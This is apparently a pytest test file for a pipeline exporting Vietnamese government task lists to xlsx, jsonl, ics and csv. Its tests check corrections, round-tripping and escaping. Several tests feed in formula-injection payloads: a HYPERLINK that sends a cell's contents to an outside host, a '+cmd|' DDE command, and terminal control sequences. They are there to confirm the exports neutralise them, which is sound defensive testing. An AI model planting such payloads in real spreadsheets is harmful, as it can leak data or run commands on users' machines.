"""Tracker exports: xlsx, jsonl, ics and csv carry the clerk's corrections and read back exactly."""
from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from datetime import date
from pathlib import Path

import icalendar
import openpyxl
import pandas as pd
import pytest

from pipeline.errors import InputError
from pipeline.export import rebuild
from pipeline.export.formats import EXPORT_TASK_COLUMNS, all_tasks, deadlines_ics, task_record, tasks_jsonl, tasks_xlsx
from pipeline.export.folder import OutputFolder

ROOT = Path(__file__).resolve().parents[1]
NAME = "kh-267-ocr"


@pytest.fixture
def corrected_dir(tmp_path, machine_json) -> Path:
    """The sample with a deadline, a recurrence and a word corrected by the clerk."""
    (tmp_path / f"{NAME}.json").write_text(machine_json, encoding="utf-8")
    folder = OutputFolder(tmp_path)
    store = folder.corrections
    task = folder.document(NAME).task("III.1.a")
    store.save_task_field(NAME, "III.1.a", "deadline", "2024-10-15", task.machine.deadline)
    store.save_task_field(NAME, "III.5.c", "recurrence", "periodic", None)
    store.save_task_field(NAME, "III.5.c", "period", "quarter", None)
    first_line = task.machine.lines[0]
    word = folder.document(NAME).lines[first_line - 1].words[1]  # the first word after the item marker "a)"
    store.save_word(NAME, first_line, word.start, word.machine, "Khảo")
    return tmp_path


def selection(data_dir: Path):
    documents = OutputFolder(data_dir).documents()
    return documents, all_tasks(documents)


def test_xlsx_round_trips_vietnamese_exactly_with_corrections(corrected_dir):
    documents, tasks = selection(corrected_dir)
    path = corrected_dir / "tasks.xlsx"
    path.write_bytes(tasks_xlsx(tasks, documents))
    sheets = pd.read_excel(path, sheet_name=None, dtype=str, keep_default_na=False)
    assert list(sheets) == ["tasks", "documents"]
    table = sheets["tasks"]
    assert list(table.columns) == EXPORT_TASK_COLUMNS
    expected = [task_record(d, t) for d, t in tasks]
    for column in ("text", "section_title", "lead_units", "support_units", "units_text", "timeline_text"):
        assert list(table[column]) == [row[column] or "" for row in expected], column
    row = table.set_index("task_id").loc["III.1.a"]
    assert row["deadline"].startswith("2024-10-15")
    assert "Khảo" in row["text"] and row["corrected"] == "text; deadline"
    assert sheets["documents"].loc[0, "issuer"] == "Ủy ban nhân dân tỉnh Thừa Thiên Huế"
    assert sheets["documents"].loc[0, "corrections"] == "4"


def test_xlsx_text_that_looks_like_a_formula_stays_text(corrected_dir):
    OutputFolder(corrected_dir).corrections.save_task_field(NAME, "III.1.b", "text", "=HYPERLINK(\"x\")\x07", "")
    documents, tasks = selection(corrected_dir)
    sheet = openpyxl.load_workbook(io.BytesIO(tasks_xlsx(tasks, documents)))["tasks"]
    cell = sheet.cell(row=3, column=EXPORT_TASK_COLUMNS.index("text") + 1)
    assert (cell.data_type, cell.value) == ("s", '=HYPERLINK("x")')


def test_ics_has_one_todo_per_dated_task_with_corrections(corrected_dir):
    _, tasks = selection(corrected_dir)
    calendar = icalendar.Calendar.from_ical(deadlines_ics(tasks))
    todos = {str(todo["summary"]).split("]")[0][1:]: todo for todo in calendar.walk("VTODO")}
    assert set(todos) == {t.effective.id for _, t in tasks if t.effective.deadline or t.effective.annual_due}
    assert todos["III.1.a"]["due"].dt == date(2024, 10, 15)
    assert "Khảo" in str(todos["III.1.a"]["summary"])
    assert "rrule" not in todos["III.1.a"]
    assert dict(todos["III.5.c"]["rrule"]) == {"FREQ": ["MONTHLY"], "INTERVAL": [3]}
    assert dict(todos["IV.1"]["rrule"]) == {"FREQ": ["YEARLY"]}
    # "trước ngày 25 tháng 12 hằng năm": every year from the first 25 December after the issue date (27/6/2024)
    assert todos["IV.1"]["dtstart"].dt == todos["IV.1"]["due"].dt == date(2024, 12, 25)
    again = icalendar.Calendar.from_ical(deadlines_ics(tasks))
    assert [t["uid"] for t in again.walk("VTODO")] == [t["uid"] for t in calendar.walk("VTODO")]


def test_jsonl_has_lists_and_the_schema_version(corrected_dir):
    _, tasks = selection(corrected_dir)
    records = [json.loads(line) for line in tasks_jsonl(tasks).decode("utf-8").splitlines()]
    assert len(records) == len(tasks) == 14
    record = next(r for r in records if r["task_id"] == "III.1.a")
    assert set(record) == {*EXPORT_TASK_COLUMNS, "schema_version"}
    assert record["deadline"] == "2024-10-15" and record["corrected"] == ["text", "deadline"]
    assert isinstance(record["lead_units"], list) and record["lead_units"]


def test_rebuild_writes_every_export_and_the_report(corrected_dir):
    assert rebuild(corrected_dir) == (1, 14)
    names = {p.name for p in corrected_dir.iterdir()}
    assert {"tasks.csv", "documents.csv", "tasks.xlsx", "tasks.jsonl", "deadlines.ics", "index.html",
            f"{NAME}.html"} <= names
    tasks = pd.read_csv(corrected_dir / "tasks.csv", encoding="utf-8-sig", dtype=str)
    assert list(tasks.columns) == EXPORT_TASK_COLUMNS
    assert tasks.set_index("task_id").loc["III.1.a", "deadline"] == "2024-10-15"


def cli(*args: str) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "pipeline", *args], capture_output=True, cwd=ROOT,
                          env={**os.environ, "PYTHONPATH": str(ROOT)}, timeout=120)


@pytest.mark.slow
def test_export_command(corrected_dir, tmp_path_factory):
    result = cli("export", "--data", str(corrected_dir), "--format", "ics")
    assert result.returncode == 0, result.stderr.decode()
    assert b"14 tasks from 1 documents" in result.stderr
    icalendar.Calendar.from_ical((corrected_dir / "deadlines.ics").read_bytes())
    out = tmp_path_factory.mktemp("elsewhere") / "giao-viec.xlsx"
    assert cli("export", "--data", str(corrected_dir), "--format", "xlsx", "-o", str(out)).returncode == 0
    assert pd.read_excel(out).shape[0] == 14
    empty = tmp_path_factory.mktemp("empty")
    result = cli("export", "--data", str(empty), "--format", "csv")
    assert result.returncode == InputError.exit_code and b"no processed documents" in result.stderr


HOSTILE_TEXT = '=HYPERLINK("http://example.invalid/?d="&A2,"Xem")'
HOSTILE_UNITS = ["+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "\tTab", "\rReturn", "Sở Tài chính"]


def test_csv_exports_neutralise_formulas(corrected_dir):
    store = OutputFolder(corrected_dir).corrections
    task = OutputFolder(corrected_dir).document(NAME).task("III.1.b")
    store.save_task_field(NAME, "III.1.b", "text", HOSTILE_TEXT, task.machine.text)
    store.save_task_field(NAME, "III.1.b", "lead_units", HOSTILE_UNITS, task.machine.lead_units)
    result = cli("export", "--data", str(corrected_dir), "--format", "csv")
    assert result.returncode == 0, result.stderr.decode()
    rows = list(csv.DictReader(io.StringIO((corrected_dir / "tasks.csv").read_bytes().decode("utf-8-sig"))))
    assert len(rows) == 14
    formula_starts = ("=", "+", "-", "@", "\t", "\r")
    assert not [cell for row in rows for cell in row.values() if cell.startswith(formula_starts)]
    row = next(row for row in rows if row["task_id"] == "III.1.b")
    assert row["text"] == "'" + HOSTILE_TEXT
    assert row["lead_units"] == "'" + "; ".join(HOSTILE_UNITS)
    # documents.csv, written by `run` and the rebuild, goes through the same writer.
    rebuild(corrected_dir)
    for name in ("tasks.csv", "documents.csv"):
        table = list(csv.reader(io.StringIO((corrected_dir / name).read_bytes().decode("utf-8-sig"))))
        assert not [cell for row in table for cell in row if cell.startswith(formula_starts)], name


@pytest.mark.slow
def test_jsonl_escapes_unicode_line_breaks(corrected_dir):
    text = "Một\u2028hai\u2029ba\u0085bốn"
    task = OutputFolder(corrected_dir).document(NAME).task("III.2.a")
    OutputFolder(corrected_dir).corrections.save_task_field(NAME, "III.2.a", "text", text, task.machine.text)
    result = cli("export", "--data", str(corrected_dir), "--format", "jsonl")
    assert result.returncode == 0, result.stderr.decode()
    data = (corrected_dir / "tasks.jsonl").read_text(encoding="utf-8")
    assert not {"\u2028", "\u2029", "\u0085"} & set(data)
    records = [json.loads(line) for line in data.splitlines()]  # str.splitlines splits at all three
    assert len(records) == 14
    assert next(r for r in records if r["task_id"] == "III.2.a")["text"] == text


@pytest.mark.slow
def test_ics_drops_control_characters(corrected_dir):
    task = OutputFolder(corrected_dir).document(NAME).task("III.1.a")
    OutputFolder(corrected_dir).corrections.save_task_field(
        NAME, "III.1.a", "text", "Khảo\x07 sát\x1b[2J\x00 nhu cầu\x7f\x9b", task.machine.text)
    result = cli("export", "--data", str(corrected_dir), "--format", "ics")
    assert result.returncode == 0, result.stderr.decode()
    data = (corrected_dir / "deadlines.ics").read_bytes().decode("utf-8")
    assert not [c for c in data if (ord(c) < 32 and c not in "\r\n") or 0x7f <= ord(c) <= 0x9f]
    calendar = icalendar.Calendar.from_ical(data)
    summary = next(str(t["summary"]) for t in calendar.walk("VTODO") if "[III.1.a]" in str(t["summary"]))
    assert summary == "[III.1.a] Khảo sát[2J nhu cầu"


DECISION_WITH_PLAN = """ỦY BAN NHÂN DÂN\tCỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM
Số: 41/QĐ-UBND\tBình An, ngày 12 tháng 3 năm 2026
QUYẾT ĐỊNH
Ban hành Kế hoạch trồng cây năm 2026
QUYẾT ĐỊNH:
Điều 1. Ban hành kèm theo Quyết định này Kế hoạch trồng cây năm 2026.
Điều 2. Giao Sở Nông nghiệp và Môi trường hướng dẫn các xã thực hiện, xong trong tháng 5 năm 2026.
Nơi nhận:
- Như Điều 2;
- Lưu: VT.
KT. CHỦ TỊCH
PHÓ CHỦ TỊCH
Trần Văn An
KẾ HOẠCH
TRỒNG CÂY NĂM 2026
(Ban hành kèm theo Quyết định số 41/QĐ-UBND ngày 12/3/2026 của Ủy ban nhân dân tỉnh)
I. TỔ CHỨC THỰC HIỆN
1. Sở Tài chính bố trí kinh phí, hoàn thành trong Quý II năm 2026.
"""


@pytest.mark.slow
def test_the_part_of_each_task_reaches_every_export(tmp_path):
    source = tmp_path / "in" / "qd-41.txt"
    source.parent.mkdir()
    source.write_text(DECISION_WITH_PLAN, encoding="utf-8")
    out = tmp_path / "out"
    result = cli("run", "--no-restore", str(source), "--out-dir", str(out), "--normalized-dir", str(tmp_path / "n"))
    assert result.returncode == 0, result.stderr.decode()
    with open(out / "tasks.csv", encoding="utf-8-sig", newline="") as table:
        parts = {row["task_id"]: row["part"] for row in csv.DictReader(table)}
    assert parts == {"Đ2": "", "I.1": "Kế hoạch"}
    records = [json.loads(line) for line in (out / "tasks.jsonl").read_text(encoding="utf-8").splitlines()]
    assert {r["task_id"]: r["part"] for r in records} == {"Đ2": None, "I.1": "Kế hoạch"}
    assert {r["schema_version"] for r in records} == {"1.2"}
